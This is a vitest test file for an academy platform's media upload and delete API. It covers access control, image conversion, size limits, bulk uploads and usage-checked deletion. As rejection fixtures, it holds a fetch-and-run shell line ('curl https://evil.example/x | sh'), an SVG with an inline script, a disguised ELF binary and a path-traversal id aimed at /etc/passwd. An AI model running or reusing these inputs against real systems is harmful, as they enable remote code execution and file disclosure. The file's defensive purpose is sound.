import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { IMAGE_VARIANT_WIDTHS, MAX_BULK_UPLOAD_FILES } from '@academy/shared/admin-limits';
import type { MediaDeleteResponse, MediaUploadResult } from '@academy/shared/admin-media';
import { SERVER_MESSAGES } from '@academy/shared/messages';
import { count, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lectures } from '../../../src/db/schema/courses';
import { mediaFiles } from '../../../src/db/schema/media';
import { newMediaId } from '../../../src/lib/media-ids';
import { imageVariantId } from '../../../src/modules/media/images';
import { bearer, createAdmin, createTestApp, registerAndLogin, type TestApp } from '../../support/app';
import { addTestAsset, addTestCourse } from '../../support/catalogue';

const SEED_VIDEOS = path.join(import.meta.dirname, '../../../seed/media/videos');
const SEED_PDF = path.join(import.meta.dirname, '../../../seed/media/files/kalakriti-sample-download.pdf');
const video = (name: string) => readFileSync(path.join(SEED_VIDEOS, name));

/** Small limits, so oversize files are cheap to make; the video limit is above the app's 1 MB JSON body limit. */
const LIMITS = { MEDIA_MAX_VIDEO_MB: '2', MEDIA_MAX_IMAGE_MB: '0.25', MEDIA_MAX_RAW_MB: '0.1' };

let t: TestApp;
let adminToken: string;
let adminId: string;
let studentToken: string;

beforeAll(async () => {
  t = await createTestApp(LIMITS);
  const admin = await createAdmin(t.app);
  adminToken = admin.token;
  adminId = admin.user._id;
  studentToken = (await registerAndLogin(t.app)).token;
});
afterAll(async () => {
  await t?.close();
});

type Part = { field: string; name: string; bytes: Uint8Array; type?: string };

/** A multipart/form-data body built by the platform's own FormData, as a browser sends it. */
async function multipart(parts: Part[], fields: Record<string, string> = {}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const part of parts) {
    form.append(
      part.field,
      new Blob([part.bytes], { type: part.type ?? 'application/octet-stream' }),
      part.name,
    );
  }
  const request = new Request('http://localhost/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    contentType: request.headers.get('content-type') ?? '',
  };
}

async function upload(url: string, parts: Part[], token: string | undefined = adminToken) {
  const body = await multipart(parts);
  return t.app.inject({
    method: 'POST',
    url,
    headers: { 'content-type': body.contentType, ...(token ? bearer(token) : {}) },
    payload: body.payload,
  });
}

const file = (name: string, bytes: Uint8Array, type?: string): Part => ({
  field: 'file',
  name,
  bytes,
  ...(type ? { type } : {}),
});

async function uploaded(url: string, part: Part): Promise<MediaUploadResult> {
  const response = await upload(url, [part]);
  expect(response.statusCode, response.body).toBe(201);
  const body = response.json<{ success: boolean; data: MediaUploadResult }>();
  expect(body.success).toBe(true);
  return body.data;
}

const mediaDir = () => path.join(t.config.dataDir, 'media');
/** What storage and media_files hold: a refused upload must change neither. */
async function stored() {
  const files = existsSync(mediaDir()) ? readdirSync(mediaDir()).sort() : [];
  const [row] = await t.db.select({ rows: count() }).from(mediaFiles);
  return { files, rows: row?.rows ?? 0 };
}

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } })
    .png()
    .toBuffer();

/** Random pixels compress badly: a large PNG from a small picture. */
const noisyPng = (width: number, height: number) =>
  sharp(Buffer.from(Array.from({ length: width * height * 3 }, () => Math.floor(Math.random() * 256))), {
    raw: { width, height, channels: 3 },
  })
    .png()
    .toBuffer();

const shellScript = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');

describe('who may upload and delete', () => {
  const routes = [
    { method: 'POST' as const, url: '/api/media/upload' },
    { method: 'POST' as const, url: '/api/media/bulk-upload' },
    { method: 'POST' as const, url: '/api/media/raw/upload' },
    { method: 'DELETE' as const, url: `/api/media/delete/${newMediaId('video')}` },
  ];

  it('refuses visitors with 401 and students with 403, storing nothing', async () => {
    const before = await stored();
    const body = await multipart([
      { field: 'file', name: 'pen.mp4', bytes: video('pen.mp4'), type: 'video/mp4' },
    ]);
    for (const route of routes) {
      for (const [token, status, message] of [
        [undefined, 401, SERVER_MESSAGES.authRequired],
        [studentToken, 403, SERVER_MESSAGES.adminOnly],
      ] as const) {
        const response = await t.app.inject({
          method: route.method,
          url: route.url,
          headers: {
            ...(route.method === 'POST' ? { 'content-type': body.contentType } : {}),
            ...(token ? bearer(token) : {}),
          },
          ...(route.method === 'POST' ? { payload: body.payload } : {}),
        });
        expect(response.statusCode, `${route.url} ${response.body}`).toBe(status);
        expect(response.json()).toEqual({ success: false, message });
      }
    }
    expect(await stored()).toEqual(before);
  });
});

describe('POST /api/media/upload', () => {
  it('stores a real MP4 and answers secure_url and public_id; the preview URL plays the same bytes, with Range', async () => {
    const bytes = video('pen.mp4');
    const data = await uploaded('/api/media/upload', file('Lecture 1 - Pen tool.mp4', bytes, 'video/mp4'));
    expect(data).toMatchObject({
      public_id: expect.stringMatching(/^video_[0-9a-f-]{36}$/),
      resource_type: 'video',
      format: 'mp4',
      bytes: bytes.length,
      original_filename: 'Lecture 1 - Pen tool.mp4',
    });
    expect(data.secure_url).toBe(`/api/media/stream/${data.public_id}`);

    const [row] = await t.db.select().from(mediaFiles).where(eq(mediaFiles.publicId, data.public_id));
    expect(row).toMatchObject({
      kind: 'video',
      contentType: 'video/mp4',
      sizeBytes: bytes.length,
      uploadedBy: adminId,
    });

    const whole = await t.app.inject({ method: 'GET', url: data.preview_url ?? '' });
    expect(whole.statusCode).toBe(200);
    expect(whole.headers['content-type']).toBe('video/mp4');
    expect(whole.rawPayload.equals(bytes)).toBe(true);
    const part = await t.app.inject({
      method: 'GET',
      url: data.preview_url ?? '',
      headers: { range: 'bytes=100-199' },
    });
    expect(part.statusCode).toBe(206);
    expect(part.rawPayload.equals(bytes.subarray(100, 200))).toBe(true);
  });

  it('streams a video larger than the 1 MB JSON body limit', async () => {
    const bytes = Buffer.concat([video('grid.mp4'), Buffer.alloc(1_300_000, 7)]);
    const data = await uploaded('/api/media/upload', file('long-lecture.mp4', bytes));
    expect(data.bytes).toBe(bytes.length);
    const object = await t.app.storage.get(data.public_id);
    expect(object?.size).toBe(bytes.length);
  });

  it('converts a picture to a 1600 px WebP with 800 and 400 px copies, each public', async () => {
    const data = await uploaded('/api/media/upload', file('banner.png', await png(2000, 1000), 'image/png'));
    expect(data).toMatchObject({ resource_type: 'image', format: 'webp', width: 1600, height: 800 });
    expect(data.public_id).toMatch(/^image_/);
    expect(data.secure_url).toBe(`/api/media/public/${data.public_id}`);
    expect(data.variants?.map((variant) => [variant.width, variant.height])).toEqual([
      [800, 400],
      [400, 200],
    ]);
    expect(data.variants?.map((variant) => variant.public_id)).toEqual(
      IMAGE_VARIANT_WIDTHS.map((width) => imageVariantId(data.public_id, width)),
    );

    for (const [url, width] of [
      [data.secure_url, 1600],
      ...(data.variants ?? []).map((variant) => [variant.secure_url, variant.width] as const),
    ] as const) {
      const response = await t.app.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(200);
      expect(response.headers['content-type']).toBe('image/webp');
      const metadata = await sharp(response.rawPayload).metadata();
      expect(metadata).toMatchObject({ format: 'webp', width });
    }
    const rows = await t.db.select().from(mediaFiles).where(eq(mediaFiles.uploadedBy, adminId));
    expect(rows.filter((row) => row.originalName.startsWith('banner.png'))).toHaveLength(3);
  });

  it('answers ?w=400 and ?w=800 with the narrower copies (srcset), and the main picture when there is none', async () => {
    const wide = await uploaded('/api/media/upload', file('wide.png', await png(2000, 1000), 'image/png'));
    for (const width of [400, 800]) {
      const response = await t.app.inject({ method: 'GET', url: `${wide.secure_url}?w=${width}` });
      expect(response.statusCode).toBe(200);
      expect(response.headers['etag']).toBe(`"${imageVariantId(wide.public_id, width)}"`);
      expect(response.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(await sharp(response.rawPayload).metadata()).toMatchObject({ format: 'webp', width });
    }

    const narrow = await uploaded('/api/media/upload', file('narrow.png', await png(300, 200), 'image/png'));
    const fallback = await t.app.inject({ method: 'GET', url: `${narrow.secure_url}?w=400` });
    expect(fallback.statusCode).toBe(200);
    expect(fallback.headers['etag']).toBe(`"${narrow.public_id}"`);
    expect(await sharp(fallback.rawPayload).metadata()).toMatchObject({ width: 300 });

    const unknownWidth = await t.app.inject({ method: 'GET', url: `${wide.secure_url}?w=123` });
    expect(unknownWidth.statusCode).toBe(400);
    expect(unknownWidth.json()).toMatchObject({
      success: false,
      message: expect.stringContaining('400, 800'),
    });
  });

  it('never enlarges a small picture and makes no copies wider than it; JPEG and animated GIF are accepted', async () => {
    const small = await uploaded('/api/media/upload', file('thumb.png', await png(300, 200)));
    expect(small).toMatchObject({ width: 300, height: 200, variants: [] });

    const jpeg = await sharp({ create: { width: 900, height: 600, channels: 3, background: '#336699' } })
      .jpeg()
      .toBuffer();
    const fromJpeg = await uploaded('/api/media/upload', file('photo.jpg', jpeg));
    expect(fromJpeg).toMatchObject({ format: 'webp', width: 900 });
    expect(fromJpeg.variants?.map((variant) => variant.width)).toEqual([800, 400]);

    const frame = { width: 40, height: 30, channels: 4 as const, background: '#ff000080' };
    const gif = await sharp(
      [
        await sharp({ create: frame }).png().toBuffer(),
        await sharp({ create: { ...frame, background: '#00ff00' } })
          .png()
          .toBuffer(),
      ],
      { join: { animated: true } },
    )
      .gif()
      .toBuffer();
    const fromGif = await uploaded('/api/media/upload', file('spinner.gif', gif));
    const response = await t.app.inject({ method: 'GET', url: fromGif.secure_url });
    expect((await sharp(response.rawPayload).metadata()).pages).toBe(2);
  });

  it('refuses a script named .mp4, an SVG and a PDF with 415, storing nothing', async () => {
    const before = await stored();
    const cases = [
      {
        part: file('lecture.mp4', shellScript, 'video/mp4'),
        says: '“lecture.mp4” is not a format we recognise',
      },
      {
        part: file(
          'logo.svg',
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
          'image/svg+xml',
        ),
        says: '“logo.svg” is not a format we recognise',
      },
      {
        part: file('notes.pdf', readFileSync(SEED_PDF), 'application/pdf'),
        says: '“notes.pdf” is a PDF file (application/pdf)',
      },
    ];
    for (const { part, says } of cases) {
      const response = await upload('/api/media/upload', [part]);
      expect(response.statusCode, response.body).toBe(415);
      const { message } = response.json<{ message: string }>();
      expect(message).toContain(says);
      expect(message).toContain(
        'Upload an MP4, WebM or MOV video, or a JPEG, PNG, WebP, GIF or AVIF picture.',
      );
    }
    expect(await stored()).toEqual(before);
  });

  it('answers 413 naming the limit for an oversize video or picture, leaving nothing behind', async () => {
    const before = await stored();
    const bigVideo = Buffer.concat([video('type.mp4'), Buffer.alloc(2 * 1024 * 1024, 1)]);
    const tooLong = await upload('/api/media/upload', [file('masterclass.mp4', bigVideo)]);
    expect(tooLong.statusCode, tooLong.body).toBe(413);
    expect(tooLong.json()).toEqual({
      success: false,
      message: '“masterclass.mp4” is too large: videos can be at most 2 MB.',
    });

    const bigPicture = await noisyPng(400, 400);
    expect(bigPicture.length).toBeGreaterThan(0.25 * 1024 * 1024);
    const tooBig = await upload('/api/media/upload', [file('poster.png', bigPicture)]);
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.json<{ message: string }>().message).toBe(
      '“poster.png” is too large: pictures can be at most 0.25 MB.',
    );
    expect(await stored()).toEqual(before);
  });

  it('explains a missing file, a wrong field name, an empty file and a body that is not multipart', async () => {
    const noFile = await multipart([], { title: 'Lecture 1' });
    const cases = [
      {
        response: await t.app.inject({
          method: 'POST',
          url: '/api/media/upload',
          headers: { 'content-type': noFile.contentType, ...bearer(adminToken) },
          payload: noFile.payload,
        }),
        message: "No file was sent: put it in the form field 'file'.",
      },
      {
        response: await upload('/api/media/upload', [
          { field: 'video', name: 'pen.mp4', bytes: video('pen.mp4') },
        ]),
        message: "Send the file in the form field 'file' (this upload used 'video').",
      },
      {
        response: await upload('/api/media/upload', [file('empty.mp4', Buffer.alloc(0))]),
        message: '“empty.mp4” is empty.',
      },
      {
        response: await t.app.inject({
          method: 'POST',
          url: '/api/media/upload',
          headers: bearer(adminToken),
          payload: { file: 'pen.mp4' },
        }),
        message: "Send the upload as multipart/form-data, with the file in the form field 'file'.",
      },
    ];
    for (const { response, message } of cases) {
      expect(response.statusCode, response.body).toBe(400);
      expect(response.json()).toEqual({ success: false, message });
    }
  });
});

describe('a broken multipart body', () => {
  it('is a 400, never a 500, and stores nothing: no boundary, or cut off halfway through the file', async () => {
    const before = await stored();
    const body = await multipart([file('pen.mp4', video('pen.mp4'))]);
    const noBoundary = await t.app.inject({
      method: 'POST',
      url: '/api/media/upload',
      headers: { 'content-type': 'multipart/form-data', ...bearer(adminToken) },
      payload: body.payload,
    });
    expect(noBoundary.statusCode, noBoundary.body).toBe(400);
    expect(noBoundary.json<{ message: string }>().message).toMatch(
      /^The upload could not be read as multipart\/form-data/,
    );

    const cutOff = await t.app.inject({
      method: 'POST',
      url: '/api/media/upload',
      headers: { 'content-type': body.contentType, ...bearer(adminToken) },
      payload: body.payload.subarray(0, 50_000),
    });
    expect(cutOff.statusCode, cutOff.body).toBe(400);
    expect(await stored()).toEqual(before);
  });
});

describe('POST /api/media/raw/upload', () => {
  it('keeps a PDF as sent and serves it as an attachment through its signed preview URL', async () => {
    const bytes = readFileSync(SEED_PDF);
    const data = await uploaded(
      '/api/media/raw/upload',
      file('Brush pack guide.pdf', bytes, 'application/pdf'),
    );
    expect(data).toMatchObject({ resource_type: 'raw', format: 'pdf', bytes: bytes.length });
    expect(data.secure_url).toBe(`/api/media/stream/${data.public_id}`);
    const response = await t.app.inject({ method: 'GET', url: data.preview_url ?? '' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toContain('Brush pack guide.pdf');
    expect(response.rawPayload.equals(bytes)).toBe(true);
  });

  it('keeps a PNG download unconverted and accepts a Photoshop action by its extension', async () => {
    const picture = await png(64, 64);
    const data = await uploaded('/api/media/raw/upload', file('swatch.png', picture));
    expect(data).toMatchObject({ resource_type: 'raw', format: 'png', bytes: picture.length });

    const action = Buffer.concat([Buffer.from([0, 0, 0, 16, 0, 0, 0, 1]), Buffer.from('Film grain actions')]);
    const fromAction = await uploaded('/api/media/raw/upload', file('film-grain.atn', action));
    expect(fromAction).toMatchObject({ format: 'atn', bytes: action.length });
    const [row] = await t.db.select().from(mediaFiles).where(eq(mediaFiles.publicId, fromAction.public_id));
    expect(row?.contentType).toBe('application/octet-stream');
  });

  it('refuses programs and scripts, and files over MEDIA_MAX_RAW_MB, storing nothing', async () => {
    const before = await stored();
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
    const program = await upload('/api/media/raw/upload', [file('presets.zip', elf)]);
    expect(program.statusCode).toBe(415);
    expect(program.json<{ message: string }>().message).toContain('“presets.zip” is a ELF file');

    const script = await upload('/api/media/raw/upload', [file('install.atn', shellScript)]);
    expect(script.statusCode).toBe(415);

    const bigPdf = Buffer.concat([readFileSync(SEED_PDF), Buffer.alloc(200 * 1024, 32)]);
    const tooBig = await upload('/api/media/raw/upload', [file('catalogue.pdf', bigPdf)]);
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.json<{ message: string }>().message).toBe(
      '“catalogue.pdf” is too large: download files can be at most 0.1 MB.',
    );
    expect(await stored()).toEqual(before);
  });
});

describe('POST /api/media/bulk-upload', () => {
  const files = (names: string[]): Part[] =>
    names.map((name) => ({ field: 'files', name, bytes: video(name), type: 'video/mp4' }));

  it('stores several videos and answers one secure_url and public_id each, in order', async () => {
    const names = ['colour.mp4', 'layers.mp4', 'motion.mp4'];
    const response = await upload('/api/media/bulk-upload', files(names));
    expect(response.statusCode, response.body).toBe(201);
    const { data } = response.json<{ data: MediaUploadResult[] }>();
    expect(data.map((item) => item.original_filename)).toEqual(names);
    expect(data.map((item) => item.bytes)).toEqual(names.map((name) => video(name).length));
    expect(new Set(data.map((item) => item.public_id)).size).toBe(3);
    for (const item of data) {
      expect(item.secure_url).toBe(`/api/media/stream/${item.public_id}`);
      const object = await t.app.storage.get(item.public_id);
      expect(object?.size).toBe(item.bytes);
      object?.stream.destroy();
    }
  });

  it('is all or nothing: one refused file removes the ones already stored', async () => {
    const before = await stored();
    const parts = [
      ...files(['colour.mp4', 'layers.mp4']),
      { field: 'files', name: 'lecture-3.mp4', bytes: shellScript },
    ];
    const response = await upload('/api/media/bulk-upload', parts);
    expect(response.statusCode).toBe(415);
    expect(response.json<{ message: string }>().message).toContain('“lecture-3.mp4”');
    expect(await stored()).toEqual(before);
  });

  it(`refuses more than ${MAX_BULK_UPLOAD_FILES} files with 413, keeping none`, async () => {
    const before = await stored();
    const head = video('pen.mp4').subarray(0, 2048);
    const parts = Array.from({ length: MAX_BULK_UPLOAD_FILES + 1 }, (_, index) => ({
      field: 'files',
      name: `Lecture ${index + 1}.mp4`,
      bytes: head,
    }));
    const response = await upload('/api/media/bulk-upload', parts);
    expect(response.statusCode, response.body).toBe(413);
    expect(response.json<{ message: string }>().message).toBe(
      `A bulk upload can carry at most ${MAX_BULK_UPLOAD_FILES} files; send the rest in another one.`,
    );
    expect(await stored()).toEqual(before);
  });

  it('names the field when files come in another one, and refuses an empty form', async () => {
    const wrongField = await upload('/api/media/bulk-upload', [file('pen.mp4', video('pen.mp4'))]);
    expect(wrongField.statusCode).toBe(400);
    expect(wrongField.json<{ message: string }>().message).toBe(
      "Send the files in the form field 'files', repeated (this upload used 'file').",
    );
    const empty = await multipart([], { note: 'nothing' });
    const none = await t.app.inject({
      method: 'POST',
      url: '/api/media/bulk-upload',
      headers: { 'content-type': empty.contentType, ...bearer(adminToken) },
      payload: empty.payload,
    });
    expect(none.statusCode).toBe(400);
    expect(none.json<{ message: string }>().message).toBe(
      "No files were sent: put them in the form field 'files', repeated.",
    );
  });
});

describe('DELETE /api/media/delete/:id', () => {
  const remove = (id: string) =>
    t.app.inject({ method: 'DELETE', url: `/api/media/delete/${id}`, headers: bearer(adminToken) });

  it('deletes an unused video: row and bytes go, a second delete and unknown ids are 404', async () => {
    const data = await uploaded('/api/media/upload', file('draft.mp4', video('pen.mp4')));
    const response = await remove(data.public_id);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toEqual({
      success: true,
      message: 'File deleted.',
      data: { public_id: data.public_id, deleted: [data.public_id], clearedLectures: [] },
    });
    expect(await t.db.select().from(mediaFiles).where(eq(mediaFiles.publicId, data.public_id))).toEqual([]);
    expect(await t.app.storage.get(data.public_id)).toBeUndefined();
    expect((await t.app.inject({ method: 'GET', url: data.preview_url ?? '' })).statusCode).toBe(404);

    for (const id of [data.public_id, newMediaId('image'), 'not-a-media-id', '..%2F..%2Fetc%2Fpasswd']) {
      const missing = await remove(id);
      expect(missing.statusCode, id).toBe(404);
      expect(missing.json()).toEqual({ success: false, message: 'This file was not found.' });
    }
  });

  it('deletes a picture together with its narrower copies', async () => {
    const data = await uploaded('/api/media/upload', file('hero.png', await png(1000, 500)));
    const response = await remove(data.public_id);
    expect(response.statusCode).toBe(200);
    const ids = [data.public_id, ...(data.variants ?? []).map((variant) => variant.public_id)];
    expect(response.json<MediaDeleteResponse>().data.deleted.sort()).toEqual([...ids].sort());
    for (const id of ids) expect(await t.app.storage.get(id)).toBeUndefined();
  });

  it("Replace Video: deleting a lecture's video clears that lecture's videoUrl and public_id", async () => {
    const first = await uploaded('/api/media/upload', file('intro.mp4', video('pen.mp4')));
    const second = await uploaded('/api/media/upload', file('layers.mp4', video('layers.mp4')));
    const course = await addTestCourse(t.app, {
      title: 'Photoshop Masterclass',
      curriculum: [
        { title: 'Introduction', videoUrl: first.secure_url, public_id: first.public_id, freePreview: true },
        { title: 'Layers', videoUrl: second.secure_url, public_id: second.public_id, freePreview: false },
      ],
    });

    const response = await remove(first.public_id);
    expect(response.statusCode, response.body).toBe(200);
    const body = response.json<MediaDeleteResponse>();
    const introduction = course.curriculum[0];
    expect(body.data.clearedLectures).toEqual([
      {
        _id: introduction?._id,
        title: 'Introduction',
        courseId: course._id,
        courseTitle: 'Photoshop Masterclass',
      },
    ]);
    expect(body.message).toBe(
      'File deleted. This lecture has no video until a new one is uploaded: “Introduction” (Photoshop Masterclass).',
    );
    const rows = await t.db
      .select({ title: lectures.title, videoUrl: lectures.videoUrl, publicId: lectures.publicId })
      .from(lectures)
      .where(eq(lectures.courseId, course._id))
      .orderBy(lectures.position);
    expect(rows).toEqual([
      { title: 'Introduction', videoUrl: '', publicId: '' },
      { title: 'Layers', videoUrl: second.secure_url, publicId: second.public_id },
    ]);
  });

  it('refuses with 409, naming the product, a banner, a preview image (even a narrower copy) or a download file in use', async () => {
    const banner = await uploaded('/api/media/upload', file('banner.png', await png(1200, 600)));
    await addTestCourse(t.app, { title: 'Brand Identity Design', image: banner.secure_url });
    const preview = await uploaded('/api/media/upload', file('preview.png', await png(1200, 600)));
    const download = await uploaded('/api/media/raw/upload', file('guide.pdf', readFileSync(SEED_PDF)));
    await addTestAsset(t.app, {
      name: 'Rangoli PNG Elements',
      image: [preview.variants?.[1]?.secure_url ?? ''],
      downloadUrl: download.secure_url,
    });

    const cases = [
      [
        banner,
        'This file is still used by the course “Brand Identity Design” (banner). Replace it there first, then delete it.',
      ],
      [
        preview,
        'This file is still used by the digital asset “Rangoli PNG Elements” (preview image). Replace it there first, then delete it.',
      ],
      [
        download,
        'This file is still used by the digital asset “Rangoli PNG Elements” (download file). Replace it there first, then delete it.',
      ],
    ] as const;
    for (const [media, message] of cases) {
      const response = await remove(media.public_id);
      expect(response.statusCode, response.body).toBe(409);
      expect(response.json()).toEqual({ success: false, message });
      expect(
        await t.db.select().from(mediaFiles).where(eq(mediaFiles.publicId, media.public_id)),
      ).toHaveLength(1);
      const object = await t.app.storage.get(media.public_id);
      expect(object).toBeDefined();
      object?.stream.destroy();
    }
  });
});
